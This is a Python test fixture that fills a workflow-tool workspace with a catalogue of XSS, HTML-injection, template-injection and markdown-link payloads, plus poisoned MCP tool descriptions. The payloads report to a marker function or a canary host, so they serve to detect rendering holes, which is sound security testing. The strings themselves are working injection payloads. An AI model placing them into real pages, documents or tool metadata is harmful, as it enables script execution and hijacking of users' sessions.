"""What somebody would write into a flow, an answer of a model or of a tool, to have a page run, fetch or send something.

Each payload that runs calls `struck(name)`, each that fetches asks `{canary}`, and each that becomes an element has the
attribute `data-hole`. The page framework's templates would make 62710561 of `{{7919*7919}}`.
"""

import base64
import json
from pathlib import Path
from typing import Any

RUNS = {
    "script": "<script data-hole>struck('@')</script>",
    "script in svg": "<svg data-hole><script>struck('@')</script></svg>",
    "script by address": "<script data-hole src={canary}/@.js></script>",
    "module": "<script data-hole type=module>import '{canary}/@.js'</script>",
    "image": "<img data-hole src=x onerror=struck('@')>",
    "image, slashes": "<img/data-hole/src=x/onerror=struck('@')//",
    "svg": "<svg data-hole onload=struck('@')>",
    "animation": "<svg data-hole><animate onbegin=struck('@') attributeName=x dur=1s>",
    "svg link": "<svg data-hole><a xlink:href=javascript:struck('@')><rect width=99 height=99 /></a></svg>",
    "foreign object": "<svg data-hole><foreignObject><iframe onload=struck('@')></iframe></foreignObject></svg>",
    "mathml": "<math data-hole><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=struck('@')&gt;\">",
    "mathml link": "<math data-hole href=javascript:struck('@')>x</math>",
    "body": "<body data-hole onload=struck('@')>",
    "details": "<details data-hole open ontoggle=struck('@')>",
    "focus": "<input data-hole autofocus onfocus=struck('@')>",
    "video": "<video data-hole><source onerror=struck('@')></video>",
    "marquee": "<marquee data-hole onstart=struck('@')>",
    "style event": "<style data-hole>@keyframes x{}</style><b data-hole style='animation:x 1s' onanimationstart=struck('@')>",
    "frame": "<iframe data-hole srcdoc=\"<script>parent.struck('@')</script>\"></iframe>",
    "frame by script": "<iframe data-hole src=\"javascript:parent.struck('@')\"></iframe>",
    "object": "<object data-hole data=\"javascript:struck('@')\"></object>",
    "embed": "<embed data-hole src=\"data:text/html,<script>parent.struck('@')</script>\">",
    "link": "<a data-hole href=\"javascript:struck('@')\">press</a>",
    "form": "<form data-hole action=\"javascript:struck('@')\"><button autofocus>x</button></form>",
    "noscript": "<noscript><p title=\"</noscript><img data-hole src=x onerror=struck('@')>\">",
    "template": "<template shadowrootmode=open><img data-hole src=x onerror=struck('@')></template>",
    "out of a title": "</title><script data-hole>struck('@')</script>",
    "out of a field": "</textarea><script data-hole>struck('@')</script>",
    "out of a script": "</script><script data-hole>struck('@')</script>",
    "out of a style": "</style><script data-hole>struck('@')</script>",
    "out of a comment": "--><script data-hole>struck('@')</script>",
    "out of an attribute": "\"><img data-hole src=x onerror=struck('@')>",
    "into an attribute": "x\" onmouseover=\"struck('@')\" autofocus onfocus=\"struck('@')",
    "into another attribute": "x' onmouseover='struck(\"@\")' autofocus onfocus='struck(\"@\")",
    "template text": "`${struck('@')}`",
    "out of a text": "');struck('@');//",
    "out of JSON": '"}]);struck("@");//',
    "vue": "{{7919*7919}}{{struck('@')}}",
    "vue, by constructor": "{{constructor.constructor(\"struck('@')\")()}}",
    "vue, by another": "{{_openBlock.constructor(\"struck('@')\")()}}",
    "vue on": "<b data-hole @click=\"struck('@')\" v-on:mouseover=\"struck('@')\" v-html=\"'x'\">x</b>",
    "angular": "{{$on.constructor(\"struck('@')\")()}}",
    "jinja": "{{ 7919*7919 }}{% print 7919*7919 %}",
    "markdown link": "[press](javascript:struck('@'))",
    "markdown link, case": "[press](JaVaScRiPt:struck('@'))",
    "markdown link, entity": "[press](javascript&colon;struck('@'))",
    "markdown link, tab": "[press](java\tscript:struck('@'))",
    "markdown link, control": "[press](\x01javascript:struck('@'))",
    "markdown link, vbscript": "[press](vbscript:struck('@'))",
    "markdown data": "[press](data:text/html;base64,PHNjcmlwdD5zdHJ1Y2soKTwvc2NyaXB0Pg==)",
    "markdown reference": "[press][r]\n\n[r]: javascript:struck('@')",
    "markdown address": "<javascript:struck('@')>",
    "markdown title": "[press](https://example.org \"x\" onmouseover=struck('@') \")",
    "markdown code": "```html\" onmouseover=\"struck('@')\n<script data-hole>struck('@')</script>\n```",
    "line separator": "\u2028struck('@')\u2029",
    "wide letters": "\uff1cscript\uff1estruck('@')\uff1c/script\uff1e",
    "long s": "<\u017fcript data-hole>struck('@')</\u017fcript>",
    "hidden letters": "<scr\u200bipt data-hole>struck('@')</scr\u200bipt>",
    "escaped": "\\u003cscript data-hole\\u003estruck('@')\\u003c/script\\u003e",
    "by percent": "%3Cscript data-hole%3Estruck('@')%3C/script%3E",
    "by entity": "&lt;script data-hole&gt;struck('@')&lt;/script&gt;",
    "backwards": "\u202e>tpircs/<struck('@')>tpircs<",
    "bell": "\x1b]0;struck\x07\x1b[2J\x00<script data-hole>struck('@')</script>",
}  # fmt: skip
FETCHES = {
    "picture": "<img data-hole src={canary}/@>",
    "pictures": "<img data-hole srcset='{canary}/@ 1x'><picture data-hole><source srcset={canary}/@><img></picture>",
    "lazy": "<img data-hole loading=eager src=//{host}/@>",
    "sound": "<audio data-hole autoplay src={canary}/@></audio><video data-hole poster={canary}/@></video>",
    "sheet": "<link data-hole rel=stylesheet href={canary}/@>",
    "prefetch": "<link data-hole rel=prefetch href={canary}/@><link data-hole rel=preconnect href={canary}>",
    "import": "<style data-hole>@import '{canary}/@';</style>",
    "style": "<style data-hole>*{background:url({canary}/@)}</style>",
    "inline style": "<b data-hole style=\"background:url({canary}/@)\">x</b>",
    "colour": "red;background:url({canary}/@)",
    "colour of an image": "url({canary}/@)",
    "colour of a set": "image-set('{canary}/@' 1x)",
    "base": "<base data-hole href={canary}/>",
    "refresh": "<meta data-hole http-equiv=refresh content='0;url={canary}/@'>",
    "a form sent": "<form data-hole action={canary}/@><input name=q><button autofocus formaction={canary}/@>x</button></form>",
    "a frame": "<iframe data-hole src={canary}/@></iframe>",
    "an object": "<object data-hole data={canary}/@></object><embed data-hole src={canary}/@>",
    "an svg picture": "<svg data-hole><image href={canary}/@ /><use href='{canary}/@#x'/></svg>",
    "a filter": "<svg data-hole><feImage href={canary}/@ /></svg>",
    "a table": "<table data-hole background={canary}/@><td background={canary}/@>x</table>",
    "markdown picture": "![x]({canary}/@)",
    "markdown picture without scheme": "![x](//{host}/@)",
    "markdown picture by reference": "![x][p]\n\n[p]: {canary}/@",
    "markdown picture in a link": "[![x]({canary}/@)]({canary}/@)",
    "a ping": "<a data-hole ping={canary}/@ href=#>x</a>",
    "a manifest": "<link data-hole rel=manifest href={canary}/@><link data-hole rel=icon href={canary}/@>",
}  # fmt: skip
KEYS = (
    ":onclick", "onclick", "onmouseover", "v-html", "innerHTML", "__proto__", "constructor", "prototype", ":style",
    "srcdoc", "href", "toString", "hasOwnProperty", "@click", "key", "ref", "is", "$el", "style", "class", "then",
)  # fmt: skip
"""Names that mean something to a page."""

SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90" onload="struck(1)">'
    "<script>struck(2)</script><style>@import url({canary}/s1);</style><image xlink:href='{canary}/s2' width='9' height='9'/>"
    "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><img src='{canary}/s3' onerror='struck(3)'/></body></foreignObject></svg>"
)
COMPONENTS = '''
import asyncio, json
from pathlib import Path
from weft import Context, WeftError, component

ATTACKS = json.loads((Path(__file__).parent / "attacks.json").read_text("utf-8"))

@component(ui={"title": ATTACKS["all"][0], "category": ATTACKS["all"][4]})
async def say(text: str, ctx: Context) -> str:
    """<img data-hole src=x onerror=struck('help')>"""
    for start in range(0, len(text), 7):
        ctx.emit(text[start:start + 7])
        await asyncio.sleep(0)
    return text

@component
def gives(what: str) -> list | dict:
    """Gives what was asked for."""
    return ATTACKS[what]

@component
def tells(what: str) -> str:
    """Gives a text."""
    return ATTACKS[what]

@component
def fails(text: str) -> str:
    """Fails."""
    raise WeftError(text, code="refused", hint=text, retryable=False)
'''


def payloads(canary: str) -> list[str]:
    host = canary.removeprefix("http://")
    made: list[str] = []
    for name, text in {**RUNS, **FETCHES}.items():
        named = text.replace("@", name.replace(" ", "-").replace(",", ""))
        made.append(named.replace("{canary}", canary).replace("{host}", host))
    return made


def attack(root: Path, canary: str) -> list[str]:
    """Make the folder a workspace that has them in every place that shows a text; the payloads."""
    every = payloads(canary)
    whole = "\n\n".join(every)
    table = [
        {name: every[(at + row) % len(every)] for at, name in enumerate([*every[:12], *KEYS])}
        for row in range(3)
    ]
    tree = {**dict(zip(every, reversed(every), strict=True)), **dict(zip(KEYS, every, strict=False)), "deep": [{one: [one]} for one in every[:9]]}  # fmt: skip
    held: dict[str, Any] = {"all": every, "table": table, "tree": tree, "whole": f"# Title\n\n{whole}"}
    held["svg"] = SVG.replace("{canary}", canary)
    drawn = base64.b64encode(held["svg"].encode()).decode()
    held["drawn"] = f"data:image/svg+xml;base64,{drawn}"
    for folder in ("flows", "components", ".weft/mcp"):
        (root / folder).mkdir(parents=True, exist_ok=True)
    (root / "components" / "attacks.json").write_text(json.dumps(held))
    (root / "components" / "attacks.py").write_text(COMPONENTS)
    (root / "components" / "broken.py").write_text(f"raise ValueError({whole[:900]!r})\n")
    (root / "weft.toml").write_text('[mcp.evil]\nurl = "http://127.0.0.1:9/mcp"\n')
    tools = [{"name": one[:200], "title": one[:200], "description": one, "arguments": {"type": "object", "properties": {"x": {"type": "string", "description": one}}}} for one in every[:9]]  # fmt: skip
    (root / ".weft" / "mcp" / "evil.json").write_text(json.dumps({"tools": tools}))
    write(root, "attacks", document(every, whole))
    one = {"component": "say", "title": every[4], "params": {"text": every[0]}}
    write(
        root,
        "cased",
        {"name": every[4][:80], "inputs": {"said": {}}, "outputs": {"said": "n"}, "nodes": {"n": one}},
    )
    write(root, "edited", document(every, whole))
    said = {"component": "tells", "title": every[4], "params": {"what": "whole"}}
    write(
        root,
        "talks",
        {
            "name": every[4][:80],
            "inputs": {"said": {"type": "text"}},
            "outputs": {"said": "n"},
            "nodes": {"n": said},
        },
    )
    write(root, "asks", asking(every, whole, table))
    write(root, "small", small(every))
    write(root, "wrong", wrong(every))
    cases = {one[:80]: {"inputs": {"said": every[4]}, "expect": [{"output": "said", "equals": f"{one}!"}]} for one in every[:2]}  # fmt: skip
    (root / "flows" / "cased.test.json").write_text(json.dumps({"test": 1, "cases": cases}))
    (root / "flows" / "broken.json").write_text('{"format": 1, "name": ' + json.dumps(every[4]) + ", ")
    (root / "flows" / "newer.json").write_text(
        json.dumps({"format": 1, "name": every[4], every[4]: every[5]})
    )
    (root / "flows" / "<img data-hole src=x onerror=struck(1)>.json").write_text('{"format": 1}')
    return every


def write(root: Path, slug: str, flow: dict[str, Any]) -> None:
    (root / "flows" / f"{slug}.json").write_text(json.dumps({"format": 1, **flow}))


def document(every: list[str], whole: str) -> dict[str, Any]:
    """A flow with a payload in each place: names, texts, notes, frames, colours; each node gives one out."""
    nodes: dict[str, Any] = {
        f"n{at}": {"component": "say", "title": one[:80], "params": {"text": one}}
        for at, one in enumerate(every)
    }
    for name in ("table", "tree"):
        nodes[name] = {"component": "gives", "title": f"{name} {every[4]}", "params": {"what": name}}
    for name in ("whole", "svg", "drawn"):
        nodes[name] = {"component": "tells", "title": f"{name} {every[0]}", "params": {"what": name}}
    nodes["fails"] = {
        "component": "fails",
        "title": f"fails {every[4]}",
        "params": {"text": whole[:3000]},
        "options": {"on_error": "skip"},
    }
    nodes["prompted"] = {
        "component": "prompt",
        "title": f"prompted {every[0]}",
        "params": {"prompt": f"{every[0]} {{{{said}}}} {every[4]} {{{{nobody}}}}", "model": "demo", "system": every[6]},
        "inputs": {"said": "inputs.said", "nobody": "n4"},
    }  # fmt: skip
    at = {name: [360 * (number % 10), 240 * (number // 10)] for number, name in enumerate(nodes)}
    notes = {f"note{n}": {"text": f"# {one}\n\n- {one}\n\n{one} **{one}** `{one}`", "x": -500, "y": 260 * n, "width": 300, "height": 240, "color": one[:60]} for n, one in enumerate(every[::9])}  # fmt: skip
    frames = {f"frame{n}": {"title": one[:80], "x": -900, "y": 260 * n, "width": 300, "height": 240, "color": one[:60]} for n, one in enumerate(every[::12])}  # fmt: skip
    said = {"type": "text", "default": every[4], "description": whole[:2000], "choices": every[:9]}
    return {
        "name": every[0][:80],
        "description": whole[:6000],
        "inputs": {"said": {**said, "choices": [every[4], *every[:9]]}},
        "outputs": {"said": "n0"},
        "state": {"tone": every[4]},
        "nodes": nodes,
        "layout": {"nodes": {"inputs": [-1300, 0], **at}, "notes": notes, "frames": frames},
    }


def small(every: list[str]) -> dict[str, Any]:
    """A flow whose few parts are taken hold of one by one."""
    box = {"x": 0, "y": 420, "width": 300, "height": 160}
    web = {"url": "https://example.org", "token": {"$secret": "KEPT"}}
    return {
        "name": every[4][:80],
        "nodes": {
            "n": {"component": "say", "title": every[4][:80], "params": {"text": every[0]}},
            "web": {"component": "http", "title": every[0][:80], "params": web},
        },
        "layout": {
            "nodes": {"n": [0, 0], "web": [360, 0]},
            "notes": {"note": {"text": f"{every[4]} {every[0]}", **box}},
            "frames": {"frame": {"title": every[4][:80], **box, "x": 360}},
        },
    }


def asking(every: list[str], whole: str, table: list[Any]) -> dict[str, Any]:
    """A flow whose questions are made of them."""

    whole = whole.replace("{{", "{")

    def ask(question: str, **params: Any) -> dict[str, Any]:
        return {"component": "ask", "title": every[4], "params": {"question": question, **params}}

    fields = {"amount": {"type": "text", "description": whole[:900], "default": every[0]}, "which": {"choices": every[:9]}}  # fmt: skip
    return {
        "name": every[4][:80],
        "nodes": {
            "a": ask(whole[:4000], value=whole[:4000]),
            "b": ask(every[0], kind="choose", choices=every[:5]),
            "c": ask(every[4], kind="form", fields=fields),
            "d": ask(every[5], kind="edit", value={"$raw": table[0]}),
        },
    }


def wrong(every: list[str]) -> dict[str, Any]:
    """A flow whose mistakes are told with what is written in it."""
    nodes: dict[str, Any] = {
        f"n{at}": {"component": one[:60], "title": one[:80], "params": {one[:60]: one}}
        for at, one in enumerate(every[:9])
    }
    for at, one in enumerate(every[:20]):
        params = {"prompt": f"{{{{{one}}}}} {{{{", "model": one, "system": "{{a | " + one + "}}"}
        nodes[f"p{at}"] = {
            "component": "prompt",
            "title": one[:80],
            "params": params,
            "options": {"when": one},
        }
    return {"name": every[9][:80], "nodes": nodes}
